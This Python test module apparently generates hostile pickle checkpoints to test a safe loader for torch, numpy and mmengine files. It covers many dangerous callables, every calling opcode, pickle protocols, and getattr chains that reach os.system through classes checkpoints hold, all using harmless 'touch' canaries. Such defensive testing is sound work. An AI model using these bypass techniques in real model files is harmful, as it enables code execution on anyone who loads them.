"""Files that want something called: by every opcode that calls, under every worthy name."""

import os
import pickle
from collections.abc import Iterator
from typing import Any

from helpers.hostile.assembler import (
    EMPTY,
    FALSE,
    FLOAT,
    MODULE,
    NONE,
    RECORDS,
    TOKEN,
    TRUE,
    Case,
    archive,
    build,
    call,
    checkpoint,
    finish,
    get,
    keyed,
    listed,
    many,
    mapped,
    name,
    new,
    number,
    ordered,
    put,
    raw,
    storage,
    tensor,
    text,
    weights,
)
from helpers.hostile.legacy import legacy

TOUCH = text(f'touch {TOKEN}')
WRITE = text(f"open('{TOKEN}', 'w')")
SYSTEM = name('os', 'system')
FIRE = call(SYSTEM, TOUCH)
ARGV = listed(text('touch'), text(TOKEN))
EVIL = finish(FIRE)  # a pickle inside something else
_PATH = text(TOKEN)
_URL = text(f'http://127.0.0.1:9/{TOKEN}')

DANGEROUS: dict[str, tuple[bytes, ...]] = {
    # a shell, a process
    'os.system': (TOUCH,),
    'posix.system': (TOUCH,),
    'nt.system': (TOUCH,),
    'os.popen': (TOUCH,),
    'os.execv': (text('/usr/bin/touch'), ARGV),
    'os.posix_spawn': (text('/usr/bin/touch'), ARGV, b'}'),
    'os.spawnv': (number(0), text('/usr/bin/touch'), ARGV),
    'os.fork': (),
    'os.abort': (),
    'os._exit': (number(0),),
    'os.kill': (number(99_999_999), number(9)),
    'pty.spawn': (ARGV,),
    'subprocess.Popen': (ARGV,),
    'subprocess.run': (ARGV,),
    'subprocess.call': (ARGV,),
    'subprocess.check_output': (ARGV,),
    'subprocess.getoutput': (TOUCH,),
    'commands.getoutput': (TOUCH,),
    'multiprocessing.util.spawnv_passfds': (text('/usr/bin/touch'), ARGV, EMPTY),
    'signal.raise_signal': (number(15),),
    'sys.exit': (text(TOKEN),),
    '_thread.interrupt_main': (),
    # files and folders
    'os.mkdir': (_PATH,),
    'os.remove': (_PATH,),
    'os.rename': (_PATH, text('other')),
    'os.symlink': (_PATH, _PATH),
    'os.chdir': (text('/'),),
    'os.putenv': (_PATH, _PATH),
    'os.truncate': (_PATH, number(0)),
    'shutil.rmtree': (_PATH,),
    'shutil.move': (_PATH, text('other')),
    'io.open': (_PATH, text('w')),
    'builtins.open': (_PATH, text('w')),
    '_io.FileIO': (_PATH, text('w')),
    'codecs.open': (_PATH, text('w')),
    'tempfile.mkdtemp': (text(''), _PATH, text('.')),
    'linecache.getlines': (_PATH,),
    'logging.FileHandler': (_PATH,),
    'sqlite3.connect': (_PATH,),
    'zipfile.ZipFile': (_PATH, text('w')),
    # Python code
    'builtins.eval': (WRITE,),
    'builtins.exec': (WRITE,),
    'builtins.compile': (WRITE, _PATH, text('eval')),
    '__builtin__.eval': (WRITE,),
    'builtins.__import__': (text(MODULE),),
    'builtins.print': (_PATH,),
    'builtins.input': (_PATH,),
    'builtins.breakpoint': (),
    'builtins.globals': (),
    'builtins.memoryview': (raw(b'x'),),
    'importlib.import_module': (text(MODULE),),
    'runpy.run_module': (text(MODULE),),
    'runpy.run_path': (_PATH,),
    'timeit.timeit': (WRITE,),
    'cProfile.run': (WRITE,),
    'pdb.run': (WRITE,),
    'doctest.testsource': (_PATH, _PATH),
    'code.interact': (_PATH,),
    'types.FunctionType': (NONE, b'}'),
    'ast.literal_eval': (text(f"'{TOKEN}'"),),
    'marshal.loads': (raw(b'N'),),
    'site.addsitedir': (_PATH,),
    'sys.setrecursionlimit': (number(77),),
    'pydoc.locate': (text(f'{MODULE}.x'),),
    'pkgutil.resolve_name': (text(f'{MODULE}:x'),),
    f'{MODULE}.x': (),
    'ctypes.CDLL': (_PATH,),
    'ctypes.string_at': (number(1),),
    'encodings.search_function': (_PATH,),
    # pickles in pickles
    'pickle.loads': (raw(EVIL),),
    '_pickle.loads': (raw(EVIL),),
    'torch.storage._load_from_bytes': (raw(EVIL),),
    'joblib.load': (_PATH,),
    'dill.loads': (raw(EVIL),),
    'cloudpickle.loads': (raw(EVIL),),
    'copyreg._reconstructor': (
        name('helpers.hostile.canary', 'Canary'),
        name('builtins', 'object'),
        NONE,
    ),
    'copyreg.__newobj__': (name('helpers.hostile.canary', 'Canary'),),
    'copyreg.add_extension': (text('os'), text('system'), number(77)),
    'shelve.open': (_PATH,),
    # the libraries' own
    'torch.load': (_PATH,),
    'torch.serialization.load': (_PATH,),
    'torch.jit.load': (_PATH,),
    'torch.hub.load': (_PATH, _PATH),
    'torch.hub.download_url_to_file': (_URL, _PATH),
    'torch._utils._import_dotted_name': (text(MODULE),),
    'torch.package.PackageImporter': (_PATH,),
    'torch.save': (number(1), _PATH),
    'torch.from_file': (_PATH, TRUE, number(4)),
    'torch.set_default_dtype': (name('torch', 'float64'),),
    'torch.set_num_threads': (number(3),),
    'torch.utils.cpp_extension.load': (_PATH, ARGV),
    'torch.ops.load_library': (_PATH,),
    'torch.UntypedStorage.from_file': (_PATH, TRUE, number(4)),
    'torch.manual_seed': (number(77),),
    'numpy.load': (_PATH,),
    'numpy.loadtxt': (_PATH,),
    'numpy.fromfile': (_PATH,),
    'numpy.genfromtxt': (_PATH,),
    'numpy.memmap': (_PATH, text('uint8'), text('w+'), number(0), many(number(4))),
    'numpy.save': (_PATH, number(1)),
    'numpy.testing._private.utils.runstring': (WRITE, b'}'),
    'numpy.frombuffer': (raw(b'12345678'),),
    'numpy.f2py.crackfortran.myeval': (WRITE,),
    'numpy.ones': (number(2**28),),
    'mmengine.config.config.Config': (b'}', NONE, _PATH),
    'mmengine.config.Config.fromfile': (_PATH,),
    'mmengine.config.Config.fromstring': (WRITE, text('.py')),
    'mmengine.fileio.load': (_PATH,),
    'mmengine.runner.load_checkpoint': (NONE, _PATH),
    'mmkd.utils.checkpoints.load_checkpoint_file': (_PATH,),
    # the net
    'webbrowser.open': (_URL,),
    'urllib.request.urlopen': (_URL,),
    'urllib.urlopen': (_URL,),
    'socket.create_connection': (many(_PATH, number(9)),),
    'ftplib.FTP': (text(f'{TOKEN}.invalid'),),
    'smtplib.SMTP': (text(f'{TOKEN}.invalid'),),
}


def dangerous_names() -> Iterator[Case]:
    """Every dangerous name called by REDUCE, beside honest weights."""
    for path, args in DANGEROUS.items():
        module, attribute = path.rsplit('.', 1)
        title = path.replace(MODULE, 'a_stranger')  # a name that opening the file itself may show
        yield Case(title, archive(checkpoint(call(name(module, attribute), *args))))
    yield Case('name_alone', archive(checkpoint(SYSTEM)))
    yield Case('before_the_weights', archive(keyed(meta=FIRE, state_dict=weights())))
    yield Case('as_the_whole', archive(FIRE))
    yield Case('as_a_weight', archive(checkpoint(state=weights(conv_bias=FIRE))))
    yield Case('as_a_key', archive(checkpoint(mapped((FIRE, NONE)))))
    yield Case('left_on_the_stack', archive(FIRE + checkpoint()))
    yield Case('thrown_away', archive(FIRE + b'0' + checkpoint()))
    yield Case(
        'the_weights_as_argument', archive(call(name('helpers.hostile.canary', 'fire'), weights()))
    )
    yield Case('name_of_a_hundred_kilobytes', archive(checkpoint(name('a' * 100_000, 'b'))))
    yield Case(
        'name_with_control_characters',
        archive(checkpoint(name('os\r\x1b[2J\x07', 'system\x00\x0b\x85'))),
    )
    yield Case('name_not_utf8', archive(checkpoint(b'cos\xff\xfe\nsystem\n')))
    yield Case('name_without_end', archive(checkpoint(b'cos')))
    yield Case('name_with_spaces', archive(checkpoint(call(name(' os', 'system '), TOUCH))))
    yield Case(
        'module_is_a_path',
        archive(checkpoint(call(name('mmengine.logging.history_buffer.os', 'system'), TOUCH))),
    )
    yield Case(
        'module_of_a_known_class',
        archive(checkpoint(call(name('collections', '_sys.exit'), number(0)))),
    )
    yield Case('storage_in_the_name', archive(checkpoint(call(name('os', 'systemStorage'), TOUCH))))


def _string(value: str) -> bytes:
    return f'S{value!r}\n'.encode()


def opcodes() -> Iterator[Case]:
    """Every opcode that calls or resolves a name, on four functions."""
    canary, fire = 'helpers.hostile.canary\nCanary\n', 'helpers.hostile.canary\nfire\n'
    for title, module, attribute, args in (
        ('system', 'os', 'system', (TOUCH,)),
        ('eval', 'builtins', 'eval', (WRITE,)),
        ('popen', 'subprocess', 'Popen', (ARGV,)),
        ('canary', 'helpers.hostile.canary', 'Canary', (_PATH,)),
    ):
        path, joined = f'{module}\n{attribute}\n'.encode(), b''.join(args)
        function = b'c' + path
        stack_name = text(module) + text(attribute) + b'\x93'
        short = (
            b''.join(b'\x8c' + bytes([len(part)]) + part.encode() for part in (module, attribute))
            + b'\x93'
        )
        for opcode, body in {
            'reduce': function + many(*args) + b'R',
            'inst': b'(' + joined + b'i' + path,
            'obj': b'(' + function + joined + b'o',
            'newobj': new(function, *args),
            'newobj_ex': function + many(*args) + b'}\x92',
            'build': build(function, keyed(x=NONE)),
            'stack_global': stack_name + many(*args) + b'R',
            'short_stack_global': short + many(*args) + b'R',
            'append': function + joined + b'a',
            'setitem': function + joined + NONE + b's',
            'additems': function + b'(' + joined + b'\x90',
        }.items():
            yield Case(f'{title}_{opcode}', archive(checkpoint(body)))
    for title, body in {
        'setstate': build(new(b'c' + canary.encode()), keyed(x=NONE)),
        'setstate_slots': build(new(b'c' + canary.encode()), many(NONE, keyed(x=NONE))),
        'appends': new(b'c' + canary.encode()) + b'(' + NONE + NONE + b'e',
        'setitems': new(b'c' + canary.encode()) + b'(' + NONE + NONE + b'u',
        'append': new(b'c' + canary.encode()) + NONE + b'a',
        'setitem': new(b'c' + canary.encode()) + NONE * 2 + b's',
        'hash': mapped((new(b'c' + canary.encode()), NONE)),
        'extension': b'\x82\x4d',
        'extension2': b'\x83\x4d\x00',
        'extension4': b'\x84\x4d\x00\x00\x00',
        'persistent_text': b'P' + TOKEN.encode() + b'\n',
        'persistent_call': b'c' + fire.encode() + b')RQ',
        'persistent_of_a_call': many(text('storage'), FIRE) + b'Q',
        'next_buffer': b'\x97',
        'readonly_buffer': text('x') + b'\x98',
        'string_escapes': _string('\\x41\n')[:-1] + b'\n',
        'string_unquoted': b'Sopen\n',
    }.items():
        yield Case(f'other_{title}', archive(checkpoint(body)))


class _Evil:
    def __init__(self, *call: Any) -> None:
        self.call = call

    def __reduce__(self) -> Any:
        return self.call[0], self.call[1:]


def protocols() -> Iterator[Case]:
    """Python's own pickles of protocols 0 to 5: in an archive, bare, and in the old format."""
    for protocol in range(6):
        for title, evil in (
            ('system', _Evil(os.system, f'touch {TOKEN}')),
            ('eval', _Evil(eval, f"open('{TOKEN}','w')")),
        ):
            body = pickle.dumps({'state_dict': {}, 'meta': evil}, protocol)
            yield Case(f'{title}_{protocol}_bare', body)
            yield Case(f'{title}_{protocol}_old', legacy(body, {}))
            yield Case(f'{title}_{protocol}_archive', archive(_stripped(body), protocol=protocol))


def _stripped(body: bytes) -> bytes:
    """A pickle without its first and last opcode, which the archive adds again."""
    return (body[2:] if body[:1] == b'\x80' else body)[:-1]


def _attribute(of: bytes, *names: str) -> bytes:
    for each in names:
        of = call(name('builtins', 'getattr'), of, text(each))
    return of


def chains() -> Iterator[Case]:
    """getattr from a class that checkpoints hold to a shell; each step is harmless by itself."""
    history = name('mmengine.logging.history_buffer', 'HistoryBuffer')
    posix = call(name('pathlib', 'PosixPath'), text('x'))
    os_of_numpy = _attribute(history, 'update', '__globals__')
    for title, module in {
        'posix_path': _attribute(posix, '_flavour', 'pathmod', 'os'),
        'posix_path_312': _attribute(posix, '_flavour', 'os'),
        'posix_path_313': _attribute(posix, 'parser', 'os'),
        'windows_path': _attribute(name('pathlib', 'WindowsPath'), '_flavour', 'pathmod', 'os'),
        'ordered_dict': _attribute(name('collections', 'OrderedDict'), 'fromkeys', '__self__'),
        'subclasses': _attribute(name('torch', 'Tensor'), '__base__', '__subclasses__'),
        'slice': _attribute(name('builtins', 'slice'), '__class__', '__subclasses__'),
        'rebuild': _attribute(name('torch._utils', '_rebuild_tensor_v2'), '__globals__'),
        'layout': _attribute(name('torch.serialization', '_get_layout'), '__globals__'),
        'parameter': _attribute(name('torch.nn.parameter', 'Parameter'), '__new__', '__globals__'),
        'history_globals': os_of_numpy,
        'config_dict': _attribute(
            name('mmengine.config.config', 'ConfigDict'), '__init__', '__globals__'
        ),
    }.items():
        yield Case(title, archive(checkpoint(call(_attribute(module, 'system'), TOUCH))))
    klass = _attribute(posix, '__class__')
    system = _attribute(posix, '_flavour', 'pathmod', 'os', 'system')
    yield Case(
        'setstate_of_a_path',
        archive(
            checkpoint(
                listed(build(klass, many(NONE, keyed(__setstate__=system))), build(posix, TOUCH))
            )
        ),
    )
    yield Case(
        'partial', archive(checkpoint(call(call(name('functools', 'partial'), SYSTEM, TOUCH))))
    )
    yield Case(
        'partial_by_build',
        archive(
            checkpoint(
                call(
                    build(
                        new(name('functools', 'partial'), name('builtins', 'print')),
                        many(SYSTEM, many(TOUCH), b'}', NONE),
                    )
                )
            )
        ),
    )
    yield Case(
        'functools_reduce',
        archive(
            checkpoint(
                call(
                    name('functools', 'reduce'),
                    name('builtins', 'getattr'),
                    listed(name('pathlib', 'PosixPath'), text('touch')),
                )
            )
        ),
    )
    imported = call(name('builtins', '__import__'), text('os'))
    yield Case(
        'attrgetter',
        archive(
            checkpoint(
                call(call(call(name('operator', 'attrgetter'), text('system')), imported), TOUCH)
            )
        ),
    )
    yield Case(
        'methodcaller',
        archive(
            checkpoint(
                call(
                    call(name('operator', 'methodcaller'), text('touch')),
                    call(name('pathlib', 'PosixPath'), text(TOKEN)),
                )
            )
        ),
    )
    yield Case(
        'itemgetter',
        archive(
            checkpoint(
                call(
                    call(name('operator', 'itemgetter'), text('os')),
                    call(name('builtins', 'globals')),
                )
            )
        ),
    )
    yield Case(
        'list_of_map',
        archive(
            checkpoint(
                call(name('builtins', 'list'), call(name('builtins', 'map'), SYSTEM, listed(TOUCH)))
            )
        ),
    )
    yield Case(
        'filter_into_a_set',
        archive(
            checkpoint(
                call(
                    name('builtins', 'set'), call(name('builtins', 'filter'), SYSTEM, listed(TOUCH))
                )
            )
        ),
    )
    yield Case(
        'type_of_three',
        archive(
            checkpoint(
                call(
                    call(
                        name('builtins', 'type'),
                        text('X'),
                        many(name('builtins', 'object')),
                        keyed(__init__=SYSTEM),
                    )
                )
            )
        ),
    )
    yield Case(
        'setattr',
        archive(
            checkpoint(
                call(name('builtins', 'setattr'), name('torch', 'Tensor'), text('float'), NONE)
            )
        ),
    )
    yield Case(
        'delattr',
        archive(
            checkpoint(call(name('builtins', 'delattr'), name('torch', 'Tensor'), text('float')))
        ),
    )
    yield Case(
        'object_setattr',
        archive(
            checkpoint(
                call(
                    name('builtins', 'object.__setattr__'),
                    name('torch', 'Tensor'),
                    text('float'),
                    NONE,
                )
            )
        ),
    )
    for path in (
        'builtins.getattr.__self__',
        'mmengine.logging.history_buffer.HistoryBuffer._set_default_statistics',
        'mmengine.logging.history_buffer.np.load',
        'pathlib.os.system',
        'pathlib.PosixPath.touch',
        'numpy.ndarray.tofile',
        'numpy.core.multiarray.fromfile',
        'numpy._core.multiarray.fromfile',
        'collections._sys.exit',
        'torch.os.system',
        'torch._utils.os.system',
        'torch.nn.parameter.torch.load',
    ):
        for split in (path.index('.'), path.rindex('.')):
            module, attribute = path[:split], path[split + 1 :]
            yield Case(
                f'dotted_{module}_{attribute}',
                archive(checkpoint(call(name(module, attribute), text(TOKEN)))),
            )


def nested() -> Iterator[Case]:
    """A payload inside something that a reader may open by itself."""
    objects = call(name('numpy', 'dtype'), text('O8'), FALSE, TRUE)
    objects = build(
        objects, many(number(3), text('|'), NONE, NONE, NONE, number(-1), number(-1), number(63))
    )
    empty = call(
        name('numpy.core.multiarray', '_reconstruct'),
        name('numpy', 'ndarray'),
        many(number(0)),
        raw(b'b'),
    )
    array = build(empty, many(number(1), many(number(1)), objects, FALSE, listed(FIRE)))
    history = name('mmengine.logging.history_buffer', 'HistoryBuffer')
    rebuilt = name('torch._tensor', '_rebuild_from_type_v2')
    honest = tensor(storage('1', 4), (4,), (1,))
    from_type = many(storage('1', 4), number(0), many(number(4)), many(number(1)), FALSE, ordered())
    rebuild = name('torch._utils', '_rebuild_tensor_v2')
    state = weights()
    for title, meta in {
        'object_array': array,
        'object_scalar': call(name('numpy.core.multiarray', 'scalar'), objects, FIRE),
        'persistent_id': storage(FIRE, 4),
        'persistent_location': storage('1', 4, FLOAT, FIRE),
        'persistent_class': storage('1', 4, SYSTEM),
        'persistent_numel': storage('1', FIRE),
        'history_init': call(history, listed(FIRE), listed(number(1))),
        'history_state': build(
            new(history), keyed(_log_history=array, _statistics_methods=keyed(min=SYSTEM))
        ),
        'history_statistics': build(
            new(history), keyed(_statistics_methods=keyed(mean=name('builtins', 'eval')))
        ),
        'history_class_state': build(history, many(NONE, keyed(statistics=SYSTEM))),
        'config_dict': build(new(name('mmengine.config.config', 'ConfigDict')), keyed(x=FIRE)),
        'lazy_object': call(name('mmengine.config.lazy', 'LazyObject'), text(MODULE)),
        'lazy_build': call(
            _attribute(call(name('mmengine.config.lazy', 'LazyObject'), text(MODULE)), 'build')
        ),
        'counter': call(name('collections', 'Counter'), FIRE),
        'default_dict': call(name('collections', 'defaultdict'), SYSTEM),
        'subclass_function': call(rebuilt, SYSTEM, name('torch', 'Tensor'), many(TOUCH), NONE),
        'subclass_state': call(rebuilt, rebuild, name('torch', 'Tensor'), from_type, keyed(x=FIRE)),
        'subclass_type': call(
            rebuilt, rebuild, name('helpers.hostile.canary', 'Canary'), from_type, b'}'
        ),
        'parameter_state': call(
            name('torch._utils', '_rebuild_parameter_with_state'),
            honest,
            TRUE,
            ordered(),
            keyed(grad=FIRE),
        ),
        'hooks': tensor(storage('1', 4), (4,), (1,), 0, TRUE, ordered((number(0), SYSTEM))),
        'wrapper_subclass': call(
            name('torch._utils', '_rebuild_wrapper_subclass'),
            name('helpers.hostile.canary', 'Canary'),
            name('torch', 'float32'),
            many(number(4)),
            many(number(1)),
            number(0),
            name('torch', 'strided'),
            text('cpu'),
            FALSE,
        ),
        'device_from_numpy': call(
            name('torch._utils', '_rebuild_device_tensor_from_numpy'),
            array,
            name('torch', 'float32'),
            text('cpu'),
            FALSE,
        ),
        'untyped_from_bytes': call(name('torch.storage', '_load_from_bytes'), raw(EVIL)),
        'partial_in_hooks': tensor(
            storage('1', 4),
            (4,),
            (1,),
            0,
            TRUE,
            ordered((number(0), call(name('functools', 'partial'), SYSTEM, TOUCH))),
        ),
    }.items():
        yield Case(title, archive(checkpoint(meta)))
    for title, built in {
        'state_of_ordered_dict': build(state, keyed(x=FIRE)),
        'metadata': build(state, keyed(_metadata=FIRE)),
        'metadata_entry': build(state, keyed(_metadata=ordered((text(''), FIRE)))),
        'weights_in_a_call': call(name('helpers.hostile.canary', 'fire'), state),
        'array_in_the_weights': weights(conv_bias=array),
        'memo_replaced': put(9, state) + b'0' + put(9, FIRE) + b'0' + get(9),
    }.items():
        yield Case(title, archive(checkpoint(state=built)))
    yield Case('a_record_that_is_a_pickle', archive(checkpoint(), RECORDS | {'4': EVIL}))
